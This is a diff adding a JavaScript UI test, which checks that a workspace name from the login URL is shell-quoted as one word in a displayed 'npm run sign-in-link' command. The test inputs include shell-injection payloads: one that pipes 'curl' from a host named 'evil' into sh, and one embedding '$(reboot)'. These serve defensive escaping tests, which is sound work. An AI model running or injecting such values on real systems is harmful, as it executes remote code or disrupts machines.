@@ -39,6 +39,18 @@ describe('the workspace', () => {
     expect(await workspace()).toHaveValue('harbour');
   });
 
+  test.each([
+    ['x;curl${IFS}evil|sh', `'x;curl${'${IFS}'}evil|sh'`],
+    ['my $(reboot) yard', "'my $(reboot) yard'"],
+    ["o'hara", String.raw`'o'\''hara'`],
+  ])('stands in the command to be pasted as one word: %s', async (name, word) => {
+    answerWith(instances);
+    renderRoutes(routes, { at: `/login?instance=${encodeURIComponent(name)}` });
+    await workspace();
+    await userEvent.click(screen.getByRole('button', { name: 'Signup' }));
+    expect(await screen.findByText(`npm run sign-in-link -- --workspace ${word}`)).toBeVisible();
+  });
+
   test('that is not known says so at login and goes on at signup', async () => {
     answerWith(instances);
     renderRoutes(routes, { at: '/login' });
